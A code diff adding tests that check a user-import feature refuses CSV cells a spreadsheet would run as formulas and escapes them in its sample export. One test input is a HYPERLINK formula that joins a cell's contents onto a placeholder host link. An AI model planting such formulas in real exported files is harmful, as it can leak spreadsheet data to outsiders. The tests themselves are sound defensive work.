@@ -178,3 +178,34 @@ def test_import_page_shows_sample_link_and_existing_departments(client, admin):
     departments("客服部")
     html = client.get("/admin/users/import").get_data(as_text=True)
     assert "/admin/users/import/sample.csv" in html and "客服部" in html
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_refused_by_line(client, admin):
+    departments("客服部")
+    before = usernames()
+    data = ("部门,姓名,用户名,邮箱\n"
+            '客服部,"=HYPERLINK(""http://x""&A1,""点击"")",sunli,\n'
+            "客服部,王五,-wangwu,\n"
+            "+客服部,赵六,zhaoliu,@x@example.com\n"
+            '客服部,"钱\t七",qianqi,\n'
+            '客服部,"孙\r八",sunba,\n').encode()
+    response = upload(client, data)
+    assert response.status_code == 422
+    html = response.get_data(as_text=True)
+    for message in ("第2行：姓名“=HYPERLINK(&#34;http://x&#34;&amp;A1,&#34;点击&#34;)”以“=”开头",
+                    "第3行：用户名“-wangwu”以“-”开头", "第4行：部门“+客服部”以“+”开头",
+                    "第4行：邮箱“@x@example.com”以“@”开头", "第5行：姓名中有制表符或换行", "第6行：姓名中有制表符或换行"):
+        assert message in html, message
+    assert "部门“+客服部”不存在" not in html  # one message per cell
+    assert "文件中有6处问题，全部未导入" in html
+    assert usernames() == before
+
+
+def test_sample_csv_quotes_a_department_name_a_spreadsheet_would_run(client, admin):
+    import csv
+
+    departments('=HYPERLINK("http://x","点击")', "客服部")
+    body = client.get("/admin/users/import/sample.csv").get_data().decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+    assert "'=HYPERLINK(\"http://x\",\"点击\")" in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
